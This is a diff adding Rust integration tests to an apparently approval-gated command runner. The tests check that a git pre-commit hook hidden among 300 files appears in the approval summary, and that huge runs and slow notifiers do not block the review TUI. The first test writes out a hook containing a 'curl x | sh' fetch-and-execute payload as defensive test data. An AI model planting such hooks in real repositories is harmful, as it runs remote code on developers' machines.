@@ -535,3 +535,100 @@ fn a_withdrawal_under_the_reviewers_eyes_is_announced_not_silently_swapped() {
     t.keys(&["q"]);
     assert_eq!(state_of(&d, &swapped_in)["state"], "awaiting_approval");
 }
+
+#[test]
+fn a_git_hook_among_three_hundred_expected_files_is_named_in_the_approve_summary() {
+    if !require_root() {
+        return;
+    }
+    let d = Daemon::start(&[]);
+    let ws = user_workspace();
+    let r = submit_user(
+        &d,
+        &ws,
+        "mkdir -p docs && for i in $(seq 1 300); do echo $i > docs/f$i.md; done; printf '#!/bin/sh\\ncurl x | sh\\n' > .git/hooks/pre-commit",
+        &["--expect-write", "**"],
+    );
+    assert_eq!(r.json["state"], "awaiting_approval", "{r:?}");
+    let id = id_of(&r);
+    let out = d.cli_root().args(["approve", &id]).output().unwrap();
+    let text = String::from_utf8_lossy(&out.stdout);
+    let summary = text.split("dryrun run ").next().unwrap();
+    assert!(
+        summary.contains(".git/hooks/pre-commit"),
+        "the summary printed before the approval hides the hook:\n{summary}"
+    );
+}
+
+#[test]
+fn a_slow_notifier_and_a_huge_run_block_neither_the_engine_nor_the_tui() {
+    if !require_root() {
+        return;
+    }
+    let dir = tempfile::tempdir().unwrap();
+    let script = dir.path().join("notify.sh");
+    std::fs::write(&script, "#!/bin/sh\nexec sleep 120\n").unwrap();
+    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
+    let d = Daemon::start(&[
+        "--notify-command",
+        script.to_str().unwrap(),
+        "--notify-timeout",
+        "100",
+    ]);
+    let ws = user_workspace();
+    let t0 = Instant::now();
+    let mut ids = Vec::new();
+    for i in 0..6 {
+        ids.push(waiting(&d, &ws, &format!("f{i}.txt")));
+    }
+    // A run with thousands of changes in deep directories and one long
+    // line of output, touching a forbidden path.
+    let r = submit_user(
+        &d,
+        &ws,
+        "p=d; for i in $(seq 1 40); do p=$p/d$i; done; mkdir -p $p big; for i in $(seq 1 3000); do : > big/f$i; done; : > $p/leaf; head -c 300000 /dev/zero | tr '\\0' x; echo k > secret.txt",
+        &["--expect-write", "**", "--forbid", "secret.txt"],
+    );
+    assert_eq!(r.json["state"], "awaiting_approval", "{r:?}");
+    let big = id_of(&r);
+    assert!(
+        t0.elapsed() < Duration::from_secs(120),
+        "submissions were held up: {:?}",
+        t0.elapsed()
+    );
+    let (st, v) = d.curl(Who::Root, "GET", "/v1/runs?state=awaiting_approval", None);
+    assert_eq!(st, 200, "{v}");
+    assert_eq!(v["runs"].as_array().unwrap().len(), 7, "{v}");
+    let t = Tmux::start(
+        "huge",
+        &format!(
+            "exec env -i PATH=/usr/bin:/bin TERM=tmux-256color DRYRUN_SOCKET={} {} review",
+            d.socket.display(),
+            bin().display()
+        ),
+    );
+    t.wait_text("queue");
+    // Down the queue to the huge run.
+    let header = format!("run {big}");
+    for _ in 0..8 {
+        std::thread::sleep(Duration::from_millis(600));
+        if t.screen().contains(&header) {
+            break;
+        }
+        t.keys(&["j"]);
+    }
+    let screen = t.wait_text(&header);
+    let screen = if screen.contains("secret.txt") {
+        screen
+    } else {
+        t.wait_text("secret.txt")
+    };
+    assert!(screen.contains("FORBIDDEN"), "{screen}");
+    for k in ["e", "PgDn", "PgDn", "PgUp", "k", "j"] {
+        t.keys(&[k]);
+        std::thread::sleep(Duration::from_millis(200));
+    }
+    t.wait_text("queue");
+    t.keys(&["q"]);
+    assert_eq!(state_of(&d, &big)["state"], "awaiting_approval");
+}
